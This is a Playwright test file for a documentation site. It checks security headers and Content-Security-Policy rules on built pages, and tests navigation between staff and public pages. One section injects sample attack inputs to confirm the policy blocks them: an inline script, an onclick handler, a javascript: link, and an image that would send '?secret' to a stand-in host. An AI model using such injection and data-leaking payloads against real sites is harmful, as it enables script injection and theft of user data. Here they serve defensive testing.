import {readdirSync, readFileSync} from 'node:fs';
import path from 'node:path';
import type {Page} from '@playwright/test';
import {SearchBox} from './support/SearchBox';
import {expect, hydrated, test} from './support/test';

// Every other test of this folder runs under the policy too: a violation is a console error, which fails it.

const BUILD = path.resolve(__dirname, '../build');

/**
 * Every fetch directive, and what browsers ask in its place where it is not there, before they ask `default-src`:
 * https://www.w3.org/TR/CSP3/#directive-fallback-list. `prefetch-src` is of older drafts.
 */
const FETCH_DIRECTIVES: Record<string, string[]> = {
  'child-src': [],
  'connect-src': [],
  'font-src': [],
  'frame-src': ['child-src'],
  'img-src': [],
  'manifest-src': [],
  'media-src': [],
  'object-src': [],
  'prefetch-src': [],
  'script-src': [],
  'script-src-attr': ['script-src'],
  'script-src-elem': ['script-src'],
  'style-src': [],
  'style-src-attr': ['style-src'],
  'style-src-elem': ['style-src'],
  'worker-src': [],
};
/** The only ones that `default-src` decides: pages ahead, and what frames and workers have directives of their own for. */
const MEANT_TO_BE_DEFAULT = ['child-src', 'prefetch-src'];

/** What decrypted scripts need is in the policies of staff pages alone. */
const isStaffPage = (file: string) => file.startsWith('docs/staff/');

const HEADERS = {
  'content-security-policy': "frame-ancestors 'none'",
  'strict-transport-security': 'max-age=31536000',
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
};

for (const url of [
  '/',
  '/docs/guidelines/roblox',
  '/docs/staff/portal',
  '/login',
  '/nowhere',
  '/img/logo.svg',
]) {
  test(`${url} is served with the security headers`, async ({request}) => {
    const headers = (await request.get(url)).headers();
    expect(headers).toMatchObject(HEADERS);
    expect(headers['permissions-policy']).toContain('camera=()');
  });
}

test('every built page has a policy that names each thing a page may load, and lets no unknown script run @row-widget-no-scripts', () => {
  const pages = readdirSync(BUILD, {recursive: true, encoding: 'utf8'}).filter((file) =>
    file.endsWith('.html'),
  );
  expect(pages.length).toBeGreaterThan(15);
  expect(pages.filter(isStaffPage).length).toBeGreaterThan(8);
  for (const file of pages) {
    const html = readFileSync(path.join(BUILD, file), 'utf8');
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1] ?? '';
    const directives = new Map(
      policy.split('; ').map((line): [string, string[]] => {
        const [name = '', ...sources] = line.split(' ');
        return [name, sources];
      }),
    );
    expect(directives.get('default-src'), file).toEqual(["'self'"]);
    for (const name of ['font-src', 'frame-src', 'manifest-src', 'object-src']) {
      expect(directives.get(name), `${name} of ${file}`).toEqual(["'none'"]);
    }
    const left = Object.entries(FETCH_DIRECTIVES)
      .filter(([name, others]) => ![name, ...others].some((asked) => directives.has(asked)))
      .map(([name]) => name);
    expect(left, `what default-src decides in ${file}`).toEqual(MEANT_TO_BE_DEFAULT);
    const scripts = directives.get('script-src') ?? [];
    expect(scripts, file).toContain("'self'");
    expect(
      scripts.filter((source) => !/^('self'|'sha256-[\w+/=]+')$/.test(source)),
      file,
    ).toEqual(isStaffPage(file) ? ['blob:'] : []);
    expect(html.indexOf('Content-Security-Policy'), file).toBeLessThan(html.indexOf('<script'));
  }
});

test.describe('what gets into a page does not run:', () => {
  const pwned = (page: Page) => page.evaluate(() => 'pwned' in window);

  test.beforeEach(async ({page, problems}) => {
    problems.expect(/Content Security Policy|elsewhere\.test/);
    await page.goto('/docs/shop');
    await hydrated(page);
  });

  test('an inline script', async ({page}) => {
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = true';
      document.body.append(script);
    });
    expect(await pwned(page)).toBe(false);
  });

  test('an event handler', async ({page}) => {
    await page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<b id="b" onclick="pwned = true">b</b>'),
    );
    await page.locator('#b').dispatchEvent('click');
    expect(await pwned(page)).toBe(false);
  });

  test('a javascript: link', async ({page}) => {
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="a" href="javascript:void(window.pwned = true)">a</a>',
      );
      document.getElementById('a')!.click();
    });
    await expect(page).toHaveURL('/docs/shop');
    expect(await pwned(page)).toBe(false);
  });

  test('a picture that would carry data to another host', async ({page}) => {
    let asked = false;
    await page.route('https://elsewhere.test/**', (route) => {
      asked = true;
      return route.abort();
    });
    const failed = page.evaluate(
      () =>
        new Promise((resolve) => {
          const picture = new Image();
          picture.onerror = () => resolve('refused');
          picture.src = 'https://elsewhere.test/?secret';
        }),
    );
    expect(await failed).toBe('refused');
    expect(asked).toBe(false);
  });
});

test.describe('public pages, which may not run what is decrypted,', () => {
  const portal = (page: Page) => page.getByRole('heading', {level: 1, name: 'Staff Portal'});
  const mark = (page: Page) =>
    page.evaluate(() => document.documentElement.setAttribute('data-same-document', ''));
  const marked = (page: Page) => page.locator('html[data-same-document]');

  test.beforeEach(async ({page, form}) => {
    await page.goto('/login');
    await form.signIn();
    await expect(page).toHaveURL('/');
    await page.goto('/docs/shop');
    await hydrated(page);
    await mark(page);
  });

  test('lead to staff pages, which load as documents of their own, and back', async ({page}) => {
    await page.locator('.navbar').getByRole('link', {name: 'Staff Portal'}).click();
    await expect(portal(page)).toBeVisible();
    await expect(marked(page)).toHaveCount(0);
    await mark(page);
    await page.locator('.theme-doc-sidebar-menu').getByRole('link', {name: 'Severity Guide'}).click();
    await expect(page.getByRole('heading', {level: 1, name: 'Severity Guide'})).toBeVisible();
    await page.goBack();
    await expect(portal(page)).toBeVisible();
    await expect(marked(page)).toHaveCount(1);
    await page.goBack();
    await expect(page.getByRole('heading', {level: 1, name: 'Shop'})).toBeVisible();
    await page.goForward();
    await expect(portal(page)).toBeVisible();
  });

  test('search staff pages in their own document, and lead to what was found', async ({page}) => {
    const search = new SearchBox(page);
    await search.ask('look-back');
    const hit = search.options.filter({hasText: 'Grouping and look-back'}).first();
    await expect(hit).toBeVisible();
    await expect(marked(page)).toHaveCount(1);
    await hit.click();
    await expect(page).toHaveURL('/docs/staff/severity-guide#grouping-and-look-back');
    await expect(page.locator('#grouping-and-look-back')).toBeInViewport();
  });

  test('lead, signed out, to the sign-in form in a document that opens the page after it', async ({
    page,
    form,
  }) => {
    await page.goto('/logout');
    await expect(page).toHaveURL('/');
    await hydrated(page);
    await page.locator('.navbar').getByRole('link', {name: 'Staff Portal'}).click();
    await expect(form.title).toHaveText('Sign in with email');
    await mark(page);
    await form.signIn();
    await expect(portal(page)).toBeVisible();
    await expect(marked(page)).toHaveCount(1);
  });
});
